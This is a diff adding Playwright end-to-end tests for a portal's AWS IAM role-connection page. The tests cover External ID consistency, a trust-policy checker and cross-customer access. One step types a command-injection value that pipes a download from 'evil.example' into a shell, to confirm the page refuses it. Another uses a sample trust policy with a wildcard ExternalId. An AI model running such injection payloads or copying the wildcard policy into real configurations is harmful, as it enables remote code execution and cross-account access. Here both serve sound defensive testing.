@@ -1,0 +1,150 @@
+import { readFileSync } from "node:fs";
+import { ConnectPage } from "#e2e/stack/connect-page.ts";
+import { expect, test } from "#e2e/stack/portal-test.ts";
+
+const WAYS = ["One click", "Template", "Terraform", "AWS CLI", "By hand"] as const;
+const PARTNER = "arn:aws:iam::999999999999:root";
+const WILD = {
+  Version: "2012-10-17",
+  Statement: [
+    {
+      Effect: "Allow",
+      Principal: { AWS: PARTNER },
+      Action: "sts:AssumeRole",
+      Condition: { StringLike: { "sts:ExternalId": "*" } },
+    },
+  ],
+};
+
+test("every way to make the role carries the same External ID, and none can be made to run what was typed", async ({
+  as,
+  customer,
+  sandbox,
+}) => {
+  const page = await as(customer.owner);
+  const connect = await ConnectPage.open(page);
+  const id = await connect.externalId();
+  const tab = (name: string) => page.getByRole("tab", { name, exact: true });
+  const panel = page.getByRole("tabpanel").filter({ visible: true });
+  const prefix = panel.getByRole("textbox", { name: "Log groups starting with", exact: true });
+
+  await test.step("the quick-create link", async () => expect(await connect.quickCreateLink()).toContain(`param_ExternalId=${id}`));
+  for (const way of WAYS.slice(1)) {
+    await test.step(way, async () => {
+      await tab(way).click();
+      await expect(panel.getByText(id).first()).toBeVisible();
+      await expect(prefix).toHaveValue("/");
+    });
+  }
+
+  await test.step("the template is downloaded from the portal, byte for byte as it is published", async () => {
+    await tab("Template").click();
+    const [download] = await Promise.all([
+      page.waitForEvent("download"),
+      panel.getByRole("link", { name: "Download the template", exact: true }).click(),
+    ]);
+    expect(download.suggestedFilename()).toBe("sallyport-role.json");
+    const link = new URL((await panel.getByRole("link", { name: /as it is published/ }).getAttribute("href")) ?? "");
+    expect(readFileSync(await download.path(), "utf8")).toBe(await (await fetch(link)).text());
+  });
+
+  await test.step("a choice follows one through the tabs, and what a shell would run is refused at its field", async () => {
+    await tab("AWS CLI").click();
+    const commands = panel.getByRole("region", { name: "Commands", exact: true });
+    await prefix.fill("/app/");
+    await expect(commands).toContainText("log-group:/app/*");
+    await prefix.fill("/app/'; curl evil.example | sh; '");
+    await expect(commands).toHaveCount(0);
+    await expect(panel.getByText("One of the choices above can’t be")).toBeVisible();
+    await tab("Terraform").click();
+    await expect(panel.getByRole("region", { name: "sallyport.tf", exact: true })).toHaveCount(0);
+    await prefix.fill("/app/");
+    await expect(panel.getByRole("region", { name: "sallyport.tf", exact: true })).toContainText("log-group:/app/*");
+  });
+
+  await test.step("a role with that name and the shown trust policy connects", async () => {
+    await tab("By hand").click();
+    const trust = panel.getByRole("region", { name: "Trust policy", exact: true });
+    expect(JSON.parse((await trust.textContent()) ?? "")).toMatchObject({ Version: "2012-10-17" });
+    await expect(panel.getByText(/^Name the role sallyport-[a-z2-7]{12}\./)).toBeVisible();
+    await tab("One click").click();
+    const role = await sandbox.createStack(await connect.quickCreateLink(), "222222222222");
+    await connect.verify(role.arn);
+    await expect(connect.result).toHaveText(/^Connected/);
+  });
+});
+
+test("the doctor names the hole of a pasted policy and mends it, before a proof and after one that failed", async ({
+  as,
+  customer,
+  sandbox,
+}) => {
+  const page = await as(customer.owner);
+  const connect = await ConnectPage.open(page);
+  const id = await connect.externalId();
+  const link = await connect.quickCreateLink();
+  const field = page.getByRole("textbox", { name: "Trust policy", exact: true });
+  const found = page.getByRole("list", { name: "What the doctor found", exact: true }).getByRole("listitem");
+  const copy = page.getByRole("button", { name: "Copy mended policy", exact: true });
+  const mended = page.getByRole("region", { name: "Mended trust policy", exact: true });
+
+  await test.step("before", async () => {
+    await page.getByRole("tab", { name: "By hand", exact: true }).click();
+    await page.getByRole("button", { name: "Check a trust policy before you verify", exact: true }).click();
+    await field.fill(JSON.stringify(WILD, null, 2));
+    await expect(found.first()).toContainText("Line 12");
+    await expect(found.first()).toContainText('"sts:ExternalId": "*"');
+    const advised = page.getByRole("region", { name: "The doctor’s mended policy", exact: true });
+    await expect(advised).toContainText(`"sts:ExternalId": "${id}"`);
+    await expect(page.getByRole("button", { name: "Copy the doctor’s mended policy", exact: true })).toBeVisible();
+  });
+
+  const role = await sandbox.createStack(link, "222222222222");
+  await sandbox.setTrustPolicy(role, WILD);
+  await connect.verify(role.arn);
+  await expect(connect.result).toHaveText(/^Rejected/);
+
+  await test.step("after: the mended policy is there at once, and the pasted one's own mending takes its place", async () => {
+    await expect(copy).toHaveCount(1);
+    await expect(mended).toContainText(id);
+    const kept = { Sid: "Ours", Effect: "Allow", Principal: { Service: "ec2.amazonaws.com" }, Action: "sts:AssumeRole" };
+    await field.fill(JSON.stringify({ ...WILD, Statement: [...WILD.Statement, kept] }, null, 2));
+    await expect(found.first()).toContainText("Line 12");
+    await expect(mended).toContainText("ec2.amazonaws.com");
+    await expect(copy).toHaveCount(1);
+  });
+
+  await test.step("what the doctor wrote connects", async () => {
+    await sandbox.setTrustPolicy(role, JSON.parse((await mended.textContent()) ?? ""));
+    await connect.verify(role.arn);
+    await expect(connect.result).toHaveText(/^Connected/);
+  });
+});
+
+test("the page for the security team shows the policies of the saved choices, and is not found for another customer", async ({
+  as,
+  customer,
+  portalUrl,
+}) => {
+  const page = await as(customer.owner);
+  const connect = await ConnectPage.open(page);
+  const id = await connect.externalId();
+  const saved = page.waitForResponse((response) => response.request().method() === "POST");
+  await page.getByRole("textbox", { name: "Log groups starting with", exact: true }).fill("/aws/lambda/");
+  await saved;
+  await page.getByRole("link", { name: "For your security team", exact: true }).click();
+  await expect(page.getByRole("heading", { name: "For your security team", exact: true })).toBeVisible();
+  await expect(page.getByRole("region", { name: "Trust policy", exact: true })).toContainText(`"sts:ExternalId": "${id}"`);
+  await expect(page.getByRole("region", { name: "Permissions policy read-logs", exact: true })).toContainText("log-group:/aws/lambda/*");
+  await expect(page.getByRole("region", { name: "Each time we opened the role, last 90 days", exact: true })).toContainText(id);
+  await expect(page.getByRole("region", { name: "All that was done in our sessions", exact: true })).toContainText("sp-[a-z2-7]{20}");
+
+  const member = await as(customer.member);
+  await member.goto(page.url());
+  await expect(member.getByRole("heading", { name: "For your security team", exact: true })).toBeVisible();
+  const stranger = await as("owner@globex.example");
+  for (const room of ["review", "template"]) {
+    const answer = await stranger.goto(`${portalUrl}/connections/${connect.id}/${room}`);
+    expect(answer?.status()).toBe(404);
+  }
+});
